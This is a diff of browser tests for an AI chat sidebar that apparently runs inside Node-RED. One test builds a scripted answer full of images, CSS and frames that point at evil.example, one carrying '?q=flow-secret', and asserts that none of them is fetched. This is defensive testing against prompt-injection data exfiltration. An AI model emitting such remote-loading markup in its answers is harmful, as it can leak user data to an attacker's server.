@@ -239,6 +239,58 @@ def test_html_and_script_in_an_answer_render_inert(auth_stack, model):
     assert seen["dialogs"] == []
 
 
+EXFIL_MARKER = "ai-exfil-7f3c"
+REMOTE_CONTENT_ANSWER = (
+    "Here is the chart: ![sales chart](https://evil.example/{m}-markdown?q=flow-secret)\n\n"
+    "<img src=\"{m}-relative\"> <img src=\"https://evil.example/{m}-img\" alt=\"raw\">\n\n"
+    "<picture><source srcset=\"https://evil.example/{m}-srcset\"><img src=\"https://evil.example/{m}-picture\">"
+    "</picture>\n\n"
+    "<video src=\"https://evil.example/{m}-video\" poster=\"https://evil.example/{m}-poster\"></video>"
+    "<audio src=\"https://evil.example/{m}-audio\"></audio>\n\n"
+    "<link rel=\"stylesheet\" href=\"https://evil.example/{m}-link.css\">"
+    "<style>@import url(\"https://evil.example/{m}-import.css\"); p {{ background: url(https://evil.example/{m}-css) }}"
+    "</style>\n\n"
+    "<div style=\"background-image:url(https://evil.example/{m}-style)\">styled text</div>\n\n"
+    "<table background=\"https://evil.example/{m}-table\"><tr><td>cell text</td></tr></table>\n\n"
+    "<object data=\"https://evil.example/{m}-object\"></object><embed src=\"https://evil.example/{m}-embed\">"
+    "<iframe src=\"https://evil.example/{m}-iframe\"></iframe>"
+    "<input type=\"image\" src=\"https://evil.example/{m}-input\">"
+    "<svg><image href=\"https://evil.example/{m}-svg\"></image></svg>\n\n"
+    "Read [the docs](https://nodered.org/docs/) or [mail us](mailto:team@example.com), "
+    "not [this one](ftp://example.com/{m}-ftp) nor [that one]({m}-relative-link).\n\nThe end."
+).format(m=EXFIL_MARKER)
+
+
+def test_an_answer_loads_no_image_media_style_or_frame_live_or_reloaded(auth_stack, model):
+    nodered, _ = auth_stack
+    tab = tab_named(nodered, "01 - Catch error")
+    model.script(Reply(text=REMOTE_CONTENT_ANSWER))
+
+    seen = run_feature(nodered, "remote-content", tab["id"], QUESTION="Show me a chart of the sales",
+                       MARKER=EXFIL_MARKER)
+
+    # Nothing in the answer was fetched, on any page of the browser.
+    assert seen["requested"] == []
+    for moment in ("live", "reloaded"):
+        check = seen[moment]
+        assert (check["loaders"], check["loadingAttributes"], check["backgrounds"], check["resources"]) == \
+            ([], [], [], []), moment
+        assert "[image: sales chart]" in check["text"] and "The end." in check["text"], moment
+        assert "styled text" in check["text"] and "cell text" in check["text"], moment
+        links = {link["text"]: link for link in check["links"]}
+        # The image is a link the user may follow, not a fetch.
+        assert links["[image: sales chart]"]["href"].startswith("https://evil.example/"), moment
+        assert links["the docs"]["href"] == "https://nodered.org/docs/"
+        assert links["mail us"]["href"] == "mailto:team@example.com"
+        # Links anywhere but the web and e-mail show as their text.
+        assert "not this one nor that one." in check["text"] and "this one" not in links and "that one" not in links
+        for link in check["links"]:
+            assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer"), link
+            assert link["href"].startswith(("https://", "http://", "mailto:")), link
+    # Node-RED's own 401 for /settings before the login is no concern of the sidebar's.
+    assert [error for error in seen["consoleErrors"] if EXFIL_MARKER in error["url"] + error["text"]] == []
+
+
 def test_the_shortcuts_open_the_tab_and_explain_the_selected_nodes(auth_stack, model):
     nodered, _ = auth_stack
     tab = tab_named(nodered, "01 - Catch error")
@@ -486,6 +538,99 @@ def test_the_tab_says_when_the_service_is_down_and_recovers_when_it_is_back(auth
     assert "not reachable" in seen["offlineStatus"] and f":{service.port}" in seen["offlineStatus"]
     assert not seen["scenarioVisibleOffline"]
     assert "not reachable" in seen["offlineAnswer"]
+    # The question that could not be sent is still in the input.
+    assert seen["inputAfterOfflineAnswer"] == "is anyone there?"
     assert seen["statusVisibleAfter"] is False
     assert seen["scenarios"] >= 5
     assert answer in seen["recoveredAnswer"] and seen["errors"] == []
+
+
+def test_a_refused_question_stays_in_the_input_and_a_counter_shows_near_the_limit(auth_stack, model):
+    nodered, _ = auth_stack
+    tab = tab_named(nodered, "01 - Catch error")
+
+    seen = run_feature(nodered, "composer", tab["id"])
+
+    assert seen["short"]["counter"] is None
+    assert seen["near"]["counter"] == "9,500 / 10,000" and not seen["near"]["over"]
+    assert seen["over"]["counter"] == "10,064 / 10,000" and seen["over"]["over"]
+    assert seen["over"]["counterColor"] == "rgb(173, 22, 37)"
+    # The service refused it (413 message_too_long) before any answer: the text is kept to shorten and resend.
+    assert any("10064 characters" in error and "10000" in error for error in seen["errors"]), seen["errors"]
+    assert seen["keptText"] and seen["refused"]["over"]
+    assert seen["header"]["newChatInside"]
+    assert model.requests == []
+
+
+def test_a_new_chat_asks_for_no_history_until_it_has_an_answer(auth_stack, model):
+    nodered, _ = auth_stack
+    tab = tab_named(nodered, "01 - Catch error")
+    answer = "The catch node handles the error."
+    model.script(Reply(text=answer))
+
+    seen = run_feature(nodered, "new-chat", tab["id"], QUESTION="What does the catch node do?")
+
+    assert seen["firstVisit"] == [] and seen["firstVisitEmpty"]
+    assert seen["afterNewChat"] == [] and seen["afterReopen"] == [] and seen["reopenedEmpty"]
+    # Once saved, the conversation is loaded when the editor is opened again.
+    assert [request["status"] for request in seen["afterAnswer"]] == [200]
+    assert [message["role"] for message in seen["transcript"]] == ["user", "assistant"]
+    assert answer in seen["transcript"][1]["text"]
+    assert seen["sidebarConsoleErrors"] == []
+
+
+def test_stop_marks_the_answer_and_names_the_session_and_a_failed_turn_reloads_with_its_code(auth_stack, model):
+    nodered, _ = auth_stack
+    tab = tab_named(nodered, "01 - Catch error")
+    first, second = "Describe every node of this flow in detail", "And what about the debug node?"
+    model.script(Reply(text=" ".join(f"word{i}" for i in range(300)), token_delay=0.05),
+                 Reply(status=400, error_message="scripted bad request"))
+
+    seen = run_feature(nodered, "stop", tab["id"], QUESTIONS=json.dumps([first, second]))
+
+    assert seen["headerBefore"] == "New chat"
+    assert seen["stoppedMarks"] == ["stopped"] and seen["notes"] == []
+    # The stopped turn was saved and the header shows its name without reopening anything.
+    assert seen["headerAfterStop"] == first
+    # The second question failed before any answer: its text is kept in the input.
+    assert seen["failedInput"] == second and seen["failedErrors"]
+    user_one, answer_one, user_two, answer_two = seen["reloaded"]
+    assert (user_one["role"], user_one["text"]) == ("user", first)
+    assert answer_one["role"] == "assistant" and answer_one["text"].startswith("word0 word1")
+    assert (user_two["role"], user_two["text"]) == ("user", second)
+    assert answer_two == {"role": "assistant", "stopped": 0, "errors": ["No answer (llm_error)"], "text": ""}
+    # The mark comes back when the service stored the flag (optional in the history's metadata).
+    stored_answer = next(m for m in seen["storedMessages"] if m["role"] == "assistant")
+    assert answer_one["stopped"] == (1 if stored_answer["metadata"].get("stopped") is True else 0)
+    assert seen["reloadedHeader"] == first
+
+
+LONG_NAME = ("Weather station telemetry from the greenhouse sensors with MQTT, dashboards and the alerting that "
+             "pages the on-call gardener")
+
+
+def test_the_tab_has_its_own_button_and_the_header_keeps_new_chat_with_a_long_name(auth_stack, two_ai_configs,
+                                                                                  model):
+    nodered, _ = auth_stack
+    tab = tab_named(nodered, "01 - Catch error")
+    model.script(Reply(text="A short answer."))
+
+    # With ai-config nodes deployed the header holds the configuration picker too, with a long choice.
+    seen = run_feature(nodered, "layout", tab["id"], QUESTION="hello", LONG_NAME=LONG_NAME, NARROW_WIDTH="220",
+                       CONFIG_ID=CONFIG_IDS["beta"])
+
+    assert seen["tabButtonVisible"] and seen["sidebarShownByButton"]
+    for width in ("wide", "narrow"):
+        layout = seen[width]
+        assert layout["name"] == LONG_NAME, width
+        assert layout["nameCut"] and layout["nameOverflow"] == "ellipsis", width
+        assert layout["newChatText"] == "New chat" and not layout["newChatClipped"], width
+        assert layout["header"]["left"] <= layout["newChat"]["left"], width
+        assert layout["newChat"]["right"] <= layout["header"]["right"], width
+    assert seen["narrow"]["sidebarWidth"] <= 240 < seen["wide"]["sidebarWidth"]
+    for state in seen["deleteButton"]:
+        assert state["color"] == "rgb(255, 255, 255)", state
+        assert state["contrast"] >= 4.5, state
+        assert state["clipped"] == [], state
+    for screenshot in seen["detailScreenshots"]:
+        assert os.path.getsize(screenshot) > 500, screenshot
